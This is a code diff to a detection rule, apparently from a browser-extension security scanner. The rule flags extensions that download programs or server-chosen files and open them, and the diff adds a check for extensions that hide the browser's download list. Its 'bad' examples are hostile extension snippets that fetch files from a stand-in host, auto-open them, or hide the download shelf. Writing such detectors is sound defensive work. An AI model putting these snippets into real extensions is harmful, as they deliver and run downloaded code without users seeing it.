@@ -1,4 +1,4 @@
-import { callsOf, pattern, propertyOf } from '../../facts/javascript/query.ts';
+import { callsOf, Op, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { isFromServer } from './network.ts';
@@ -23,17 +23,28 @@ export const opensDownloadedProgram = defineRule({
       const to = pattern(script, address);
       const name = pattern(script, propertyOf(script, call.args[0] ?? 0, 'filename'));
       if (PROGRAM.test(to) || PROGRAM.test(name)) yield hit(call.value, opens.length > 0 ? { severity: 'critical', message: 'It is opened when it is there.' } : {});
-      else if (isFromServer(script, address) && opens.length > 0) yield hit(call.value, { severity: 'critical', message: 'A server decides what is downloaded, and it is opened.' });
+      else if (!isFromServer(script, address)) continue;
+      else if (opens.length > 0) yield hit(call.value, { severity: 'critical', message: 'A server decides what is downloaded, and it is opened.' });
+      else if (hidesDownloads(script)) yield hit(call.value, { message: 'A server decides what is downloaded, and the browser’s list of downloads is hidden.' });
     }
   }),
   examples: {
     bad: [
       backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
       backgroundExample('fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));'),
+      backgroundExample('fetch("https://x.example/n").then((r) => r.json()).then((j) => { chrome.downloads.setShelfEnabled(false); chrome.downloads.download({ url: j.u, filename: "invoice." + j.ext }); });'),
     ],
     good: [
+      backgroundExample('fetch("https://api.example.com/media").then((r) => r.json()).then((j) => chrome.downloads.download({ url: j.u, filename: j.title + ".mp4" }));'),
       backgroundExample('chrome.downloads.download({ url: canvas.toDataURL(), filename: "shot.png" });'),
       backgroundExample('chrome.downloads.onChanged.addListener((d) => { if (d.state) show(d.id); }); button.onclick = () => chrome.downloads.open(id);'),
     ],
   },
 });
+
+function hidesDownloads(script: ScriptFacts): boolean {
+  if (callsOf(script, 'chrome.downloads.setShelfEnabled').some((call) => isOff(script, call.args[0] ?? 0))) return true;
+  return callsOf(script, 'chrome.downloads.setUiOptions').some((call) => isOff(script, propertyOf(script, call.args[0] ?? 0, 'enabled'))) || callsOf(script, 'chrome.downloads.erase').length > 0;
+}
+
+const isOff = (script: ScriptFacts, value: number): boolean => script.op[value] === Op.constant && script.strings[script.a[value] as number] === 'false';
